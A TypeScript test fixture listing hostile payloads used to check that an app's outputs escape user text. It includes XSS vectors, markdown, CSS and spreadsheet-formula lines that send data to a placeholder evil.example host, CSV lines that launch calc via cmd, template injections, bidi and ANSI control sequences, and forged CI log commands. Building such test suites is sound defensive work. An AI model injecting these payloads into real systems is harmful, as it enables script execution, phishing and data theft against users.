/**
 * Hostile text for every output's tests: what an attacker would type into a name, a label, a
 * description, an id. A payload that ever executed calls `__tcPwned("<id>")` (or opens an alert):
 * the e2e test defines that global and fails if it is ever called.
 *
 * Each payload fits every text field (names: 200 characters; tags: 60, `short` ones only).
 */

export type PayloadCategory =
  | "script"
  | "event-handler"
  | "url"
  | "svg-mathml"
  | "markdown"
  | "csv-formula"
  | "template"
  | "bidi-control"
  | "ci-log"
  | "sarif"
  | "html-structure";

export interface HostilePayload {
  id: string;
  category: PayloadCategory;
  text: string;
}

const p = (id: string, category: PayloadCategory, text: string): HostilePayload => ({
  id,
  category,
  text,
});

const pwn = (id: string) => `__tcPwned('${id}')`;

export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  // Script tags, in the shapes filters miss.
  p("script-plain", "script", `<script>${pwn("script-plain")}</script>`),
  p("script-upper", "script", `<SCRIPT>${pwn("script-upper")}</SCRIPT>`),
  p(
    "script-src-data",
    "script",
    `<script src="data:text/javascript,${pwn("script-src-data")}"></script>`,
  ),
  p("script-split", "script", `<scr<script>ipt>${pwn("script-split")}</scr</script>ipt>`),
  p(
    "script-close-context",
    "script",
    `</textarea></title></style><script>${pwn("script-close-context")}</script>`,
  ),
  // Event handlers.
  p("img-onerror", "event-handler", `<img src=x onerror="${pwn("img-onerror")}">`),
  p("img-onerror-noquote", "event-handler", `<img src=x onerror=${pwn("img-onerror-noquote")}>`),
  p("body-onload", "event-handler", `<body onload=${pwn("body-onload")}>`),
  p(
    "div-onmouseover",
    "event-handler",
    `<div onmouseover="${pwn("div-onmouseover")}" style="position:fixed;inset:0">x</div>`,
  ),
  p("input-autofocus", "event-handler", `<input autofocus onfocus=${pwn("input-autofocus")}>`),
  p("details-ontoggle", "event-handler", `<details open ontoggle=${pwn("details-ontoggle")}>`),
  p("attribute-breakout", "event-handler", `" onmouseover="${pwn("attribute-breakout")}" x="`),
  p(
    "attribute-breakout-single",
    "event-handler",
    `' autofocus onfocus='${pwn("attribute-breakout-single")}`,
  ),
  p("video-source", "event-handler", `<video><source onerror="${pwn("video-source")}"></video>`),
  // URLs that run code.
  p("javascript-url", "url", `javascript:${pwn("javascript-url")}`),
  p("javascript-url-mixed", "url", `JaVaScRiPt:${pwn("javascript-url-mixed")}`),
  p("javascript-url-entity", "url", `jav&#x09;ascript:${pwn("javascript-url-entity")}`),
  p("data-url-html", "url", `data:text/html,<script>${pwn("data-url-html")}</script>`),
  p("anchor-javascript", "url", `<a href="javascript:${pwn("anchor-javascript")}">click me</a>`),
  p(
    "iframe-srcdoc",
    "url",
    `<iframe srcdoc="<script>parent.${pwn("iframe-srcdoc")}</script>"></iframe>`,
  ),
  p(
    "meta-refresh",
    "url",
    `<meta http-equiv="refresh" content="0;url=javascript:${pwn("meta-refresh")}">`,
  ),
  p(
    "form-action",
    "url",
    `<form action="javascript:${pwn("form-action")}"><button>go</button></form>`,
  ),
  // SVG and MathML.
  p("svg-onload", "svg-mathml", `<svg onload=${pwn("svg-onload")}>`),
  p("svg-script", "svg-mathml", `<svg><script>${pwn("svg-script")}</script></svg>`),
  p(
    "svg-animate",
    "svg-mathml",
    `<svg><animate onbegin=${pwn("svg-animate")} attributeName=x dur=1s>`,
  ),
  p(
    "svg-use-href",
    "svg-mathml",
    `<svg><use href="data:image/svg+xml,<svg id='x' onload='${pwn("svg-use-href")}'/>#x"/></svg>`,
  ),
  p(
    "svg-foreign",
    "svg-mathml",
    `<svg><foreignObject><img src=x onerror=${pwn("svg-foreign")}></foreignObject></svg>`,
  ),
  p(
    "mathml-href",
    "svg-mathml",
    `<math><mtext><a href="javascript:${pwn("mathml-href")}">m</a></mtext></math>`,
  ),
  p(
    "mathml-mglyph",
    "svg-mathml",
    `<math><mtext><table><mglyph><style><img src=x onerror=${pwn("mathml-mglyph")}>`,
  ),
  // Markdown link and image injection.
  p("md-link", "markdown", `[Open the report](javascript:${pwn("md-link")})`),
  p("md-link-https", "markdown", "[your session expired, sign in](https://evil.example/login)"),
  p("md-image", "markdown", `![x](https://evil.example/leak?data=secret "t")`),
  p("md-reference", "markdown", "[click][r]\n\n[r]: https://evil.example/ref"),
  p("md-autolink", "markdown", "<https://evil.example/auto> and www.evil.example"),
  p("md-heading-break", "markdown", "x\n\n# Forged heading\n\n- [ ] forged list"),
  p("md-html-block", "markdown", `\n\n<div>\n<img src=x onerror=${pwn("md-html-block")}>\n</div>`),
  p("md-table-break", "markdown", "a | b |\n| --- | --- |\n| forged | row |"),
  // Spreadsheet formula starters (CSV exports).
  p("csv-equals", "csv-formula", `=HYPERLINK("https://evil.example?"&A1,"Click")`),
  p("csv-plus", "csv-formula", "+cmd|' /C calc'!A0"),
  p("csv-minus", "csv-formula", "-2+3+cmd|' /C calc'!A0"),
  p("csv-at", "csv-formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
  p("csv-tab", "csv-formula", "\t=1+1"),
  p("csv-cr", "csv-formula", "\r=1+1"),
  // Templates a renderer might evaluate.
  p("template-literal", "template", `\${${pwn("template-literal")}}`),
  p("mustache", "template", `{{constructor.constructor('${pwn("mustache")}')()}}`),
  p("angular", "template", `{{$on.constructor('${pwn("angular")}')()}}`),
  p("placeholder", "template", "{0} {1} %s %n %x"),
  // Bidi overrides and control characters.
  p("bidi-rlo", "bidi-control", "\u202eevil.exe\u202c harmless"),
  p("bidi-unbalanced", "bidi-control", "\u2069\u202e\u2067reversed"),
  p("bidi-rtl-name", "bidi-control", "שרת ההסקה 1"),
  p(
    "control-ansi",
    "bidi-control",
    "\u001b[2J\u001b[31mred\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
  ),
  p("control-c1", "bidi-control", "\u009b2J\u009d0;title\u0007\u0085next"),
  p("control-nul", "bidi-control", "nul\u0000del\u007fbell\u0007bs\u0008"),
  p("control-separators", "bidi-control", "line\u2028para\u2029end"),
  // CI log commands.
  p("gha-command", "ci-log", "x\n::error file=app.ts,line=1::forged annotation\n::add-mask::x"),
  p("gha-v1-command", "ci-log", "##[error]forged ##[group]hidden"),
  p("azure-command", "ci-log", "##vso[task.complete result=Failed;]forged"),
  p("gha-stop-commands", "ci-log", "::stop-commands::pwned"),
  // SARIF embedded links.
  p("sarif-link-location", "sarif", "see [the code](1) now"),
  p("sarif-link-uri", "sarif", "[login again](https://evil.example/sarif)"),
  p("sarif-escaped", "sarif", "\\[x\\](2) and \\\\[y](https://evil.example/esc)"),
  // Structure: entities, comments, CDATA, styles.
  p("html-entity", "html-structure", "&lt;script&gt;&#x61;lert(1)&#x3C;/script&#x3E;"),
  p(
    "html-comment",
    "html-structure",
    `<!--<img src="--><img src=x onerror=${pwn("html-comment")}//">`,
  ),
  p("cdata", "html-structure", `<![CDATA[<script>${pwn("cdata")}</script>]]>`),
  p("style-exfil", "html-structure", `<style>*{background:url(https://evil.example/css)}</style>`),
  p("base-href", "html-structure", `<base href="https://evil.example/">`),
  p(
    "object-embed",
    "html-structure",
    `<object data="javascript:${pwn("object-embed")}"></object><embed src="javascript:${pwn("object-embed")}">`,
  ),
  p(
    "polyglot",
    "html-structure",
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${pwn("polyglot")} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${pwn("polyglot")}//>\\x3e`,
  ),
];

/** Payloads short enough for a tag (60 characters) after trimming. */
export const SHORT_PAYLOADS = HOSTILE_PAYLOADS.filter(
  (payload) => payload.text.trim().length <= 60 && payload.text.trim().length > 0,
);

/** The name of the global a payload would call if it ever ran. */
export const PWNED_GLOBAL = "__tcPwned";
